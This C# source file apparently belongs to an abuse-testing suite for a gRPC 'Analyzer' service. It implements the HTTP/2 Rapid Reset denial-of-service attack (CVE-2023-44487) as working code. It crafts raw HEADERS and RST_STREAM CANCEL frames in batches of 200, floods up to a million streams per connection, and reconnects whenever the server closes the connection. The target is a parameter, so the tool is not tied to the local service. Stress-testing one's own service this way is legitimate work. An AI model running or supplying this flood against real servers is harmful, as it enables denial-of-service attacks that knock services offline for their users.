using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace Load.Systems.Analyzer.Abuse;

/// <summary>
/// A connection of HTTP/2 that opens streams and resets each at once (CVE-2023-44487), frames by hand (RFC 9113); when the service ends it,
/// comes another.
/// </summary>
internal static class RapidReset
{
    private const int Together = 200;
    private const int MaxStreams = 1_000_000;

    /// <summary>The length of a frame's head, and the place of the stream's number in it.</summary>
    private const int HeadLength = 9, StreamAt = 5;

    private static readonly byte[] Preface =
        [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(type: 4, flags: 0, stream: 0, [])]; // an empty SETTINGS

    private static readonly byte[] Submit = Block(
        (":method", "POST"), (":scheme", "http"), (":path", "/analyzer.v1.Analyzer/SubmitFile"), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers"));

    public static async Task RunAsync(Uri service, CancellationToken stop)
    {
        while (!stop.IsCancellationRequested)
        {
            try
            {
                using var client = new TcpClient { NoDelay = true };
                await client.ConnectAsync(service.Host, service.Port, stop);
                var stream = client.GetStream();
                await stream.WriteAsync(Preface, stop);
                var drained = stream.CopyToAsync(Stream.Null, stop);
                var frames = Frames();
                for (var id = 1; id < MaxStreams && !drained.IsCompleted; id += 2 * Together)
                {
                    Number(frames, id);
                    await stream.WriteAsync(frames, stop);
                }

                await drained;
            }
            catch (Exception over) when (over is IOException or SocketException or OperationCanceledException)
            {
                // The service, or the iteration, has ended it.
            }
        }
    }

    /// <summary>HEADERS with END_HEADERS, and RST_STREAM with CANCEL, for so many streams; their numbers are filled in later.</summary>
    private static byte[] Frames() =>
    [
        .. Enumerable.Range(0, Together).SelectMany(_ => (byte[])
            [.. Frame(type: 1, flags: 4, stream: 0, Submit), .. Frame(type: 3, flags: 0, stream: 0, [0, 0, 0, 8])]),
    ];

    private static void Number(Span<byte> frames, int first)
    {
        var (headers, pair) = (HeadLength + Submit.Length, frames.Length / Together);
        for (var i = 0; i < Together; i++)
        {
            BinaryPrimitives.WriteInt32BigEndian(frames[((i * pair) + StreamAt)..], first + (2 * i));
            BinaryPrimitives.WriteInt32BigEndian(frames[((i * pair) + headers + StreamAt)..], first + (2 * i));
        }
    }

    private static byte[] Frame(byte type, byte flags, int stream, ReadOnlySpan<byte> payload)
    {
        var frame = new byte[HeadLength + payload.Length];
        (frame[0], frame[1], frame[2]) = ((byte)(payload.Length >> 16), (byte)(payload.Length >> 8), (byte)payload.Length);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(StreamAt), stream);
        payload.CopyTo(frame.AsSpan(HeadLength));
        return frame;
    }

    /// <summary>Header fields as literals without an index (RFC 7541, 6.2.2); each text is shorter than 127 bytes.</summary>
    private static byte[] Block(params (string Name, string Value)[] fields) =>
        [.. fields.SelectMany(field => (byte[])[0, .. Text(field.Name), .. Text(field.Value)])];

    private static byte[] Text(string text) => [(byte)text.Length, .. Encoding.ASCII.GetBytes(text)];
}
